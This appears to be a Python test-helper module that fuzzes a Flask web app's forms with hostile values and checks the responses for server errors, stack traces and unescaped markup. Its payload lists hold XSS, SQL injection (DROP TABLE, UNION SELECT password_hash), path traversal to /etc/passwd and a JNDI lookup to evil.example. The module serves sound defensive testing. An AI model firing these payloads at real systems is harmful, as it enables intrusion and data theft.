"""Hostile values and the checks every hostile test makes on an answer."""

from __future__ import annotations

import io
import re
from typing import Any

from flask import Flask
from hypothesis import HealthCheck
from hypothesis import settings
from hypothesis import strategies as st
from sqlalchemy import select
from werkzeug.datastructures import FileStorage
from werkzeug.datastructures import MultiDict
from werkzeug.test import encode_multipart

from app.extensions import db
from tests.conftest import REFERENCE_TABLES

# Markup that a page must only ever show HTML-escaped (each carries a marker, so a raw hit
# in a page can only come from our own input).
MARKUP = [
    '<script>alert("hx1")</script>',
    '"><img src=x onerror=alert(\'hx2\')>',
    "'><svg/onload=alert('hx3')>",
    "</textarea><script>hx4()</script>",
    '<a href="javascript:alert(\'hx5\')">hx5</a>',
    "<iframe src=//evil.example/hx6>",
    '{{7*7}}<b class="hx7">',
    "<!--hx8--><style>*{display:none}</style>",
    "<img src=hx10 onerror=alert(10)>",
]
SQL = [
    "' OR '1'='1' --", "1; DROP TABLE user; --", "%' UNION SELECT password_hash FROM user --",
    "\\'; DELETE FROM process_instance; --", "1 OR 1=1",
]
ODD = [
    "", " ", "\x00", "a\x00b", "\x00<script>hx0</script>", "\u202e\u202d", "\ufeff", "\u200b",
    "\r\n\r\nX-Injected: 1", "😀" * 50, "𠜎𠜱𠝹", "ﷺ" * 30, "Ａｄｍｉｎ０１", "x" * 5000,
    "9" * 40, "-1", "-0", "0", "+1", "²", "١٢٣", "١", "٣", "1e309", "NaN", "inf", "0x10", "1_000",
    "2026-02-30", "0000-00-00", "9999-12-31", "2026-1-1", "20260101", "-2026-01-01", "2026-13-01",
    "../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd\x00.pdf", "%00", "%s%s%n",
    "${jndi:ldap://evil.example/a}", "true", "on", "yes", "null", "None", "[]", "{}",
    '{"sha256": "00"}', "[1, 2]",
]
HUGE = "长" * 200_000

text_value = st.one_of(
    st.sampled_from(MARKUP + SQL + ODD),
    st.text(max_size=40),
    st.text(alphabet=st.characters(categories=["Cc", "Cf", "Co", "Zl", "Zp", "Mn"]), max_size=12),
    st.builds(lambda a, p, b: a + p + b, st.text(max_size=8), st.sampled_from(MARKUP), st.text(max_size=8)),
    st.integers(min_value=-(10**30), max_value=10**30).map(str),
)
# a field's posted values: usually one, sometimes repeated keys, once in a while a 600 KB value
field_values = st.integers(min_value=0, max_value=39).flatmap(
    lambda n: st.just([HUGE]) if n == 0
    else st.lists(text_value, min_size=2, max_size=4) if n > 32
    else text_value.map(lambda v: [v]))

FUZZ = settings(max_examples=25, deadline=None, derandomize=False,
                suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow,
                                       HealthCheck.data_too_large])


def form_of(fields: list[str], extra: bool = True) -> st.SearchStrategy[dict[str, list[str]]]:
    """A posted form: hostile values for some of ``fields`` and maybe a few unknown keys."""
    known = st.dictionaries(st.sampled_from(fields), field_values, max_size=len(fields))
    if not extra:
        return known
    unknown = st.dictionaries(st.sampled_from(["__proto__", "id", "role", "is_admin", "user_id",
                                               "status", "csrf", "x[]", "a.b", "../f", "\x00"]),
                              field_values, max_size=2)
    return st.builds(lambda a, b: {**b, **a}, known, unknown)


def snapshot(app: Flask) -> dict[str, list[str]]:
    """Every row of every table a request could write (reference data excluded)."""
    out: dict[str, list[str]] = {}
    with app.app_context():
        for table in db.metadata.sorted_tables:
            if table.name in REFERENCE_TABLES or table.name in ("web_session", "audit_head",
                                                                "scheduler_beat"):
                # the visitor's own session (its CSRF token, when it was last seen); the audit
                # chain's head moves with every audit_event row, which is compared; the sweep time
                continue
            rows = db.session.execute(select(table)).all()
            out[table.name] = sorted(repr(tuple(r)) for r in rows)
        db.session.remove()
    return out


def changed(before: dict[str, list[str]], after: dict[str, list[str]]) -> dict[str, int]:
    """Tables whose rows differ, with the change in their row count."""
    return {t: len(after[t]) - len(before[t]) for t in before if before[t] != after[t]}


def sent_markup(values: Any) -> set[str]:
    """The MARKUP payloads contained in anything that was sent."""
    flat = repr(values)
    found = {m for m in MARKUP if m in flat}
    # repr() escapes quotes and backslashes; look at the raw strings too
    for v in _strings(values):
        found |= {m for m in MARKUP if m in v}
    return found


def _strings(values: Any) -> list[str]:
    if isinstance(values, str):
        return [values]
    if isinstance(values, dict):
        return [s for k, v in values.items() for s in _strings(k) + _strings(v)]
    if isinstance(values, list | tuple):
        return [s for v in values for s in _strings(v)]
    return []


TRACE = re.compile(r"Traceback \(most recent call last\)|werkzeug\.debug|The debugger caught|"
                   r"File &#34;|File \"/|sqlalchemy\.exc|jinja2\.exceptions|OperationalError")


def assert_sane(resp: Any, sent: Any) -> str:
    """No 5xx, no stack trace, and no markup we sent comes back unescaped."""
    body = resp.get_data(as_text=True)
    assert resp.status_code < 500, f"{resp.status_code} for {sent!r}"
    assert not TRACE.search(body), body[:2000]
    for m in sent_markup(sent):
        assert m not in body, f"unescaped {m!r} echoed"
    return body


def post(web: Any, url: str, data: dict[str, Any], multipart: bool = False) -> Any:
    """POST like a browser (with the CSRF token). Files are given as ``(bytes, filename)``.

    Multipart bodies are encoded here, in memory: the test client would spool a large body
    to a temporary file that it never closes.
    """
    payload: dict[str, Any] = {"csrf_token": web.token, **data}
    if not multipart:
        return web.client.post(url, data=payload)
    fields: dict[str, list[Any]] = {}
    for key, value in payload.items():
        for v in value if isinstance(value, list) else [value]:
            if isinstance(v, tuple):
                v = FileStorage(io.BytesIO(v[0]), filename=v[1], name=key,
                                content_type="application/octet-stream")
            fields.setdefault(key, []).append(v)
    boundary, body = encode_multipart(MultiDict(fields))
    return web.client.post(url, data=body, content_type=f"multipart/form-data; boundary={boundary}")
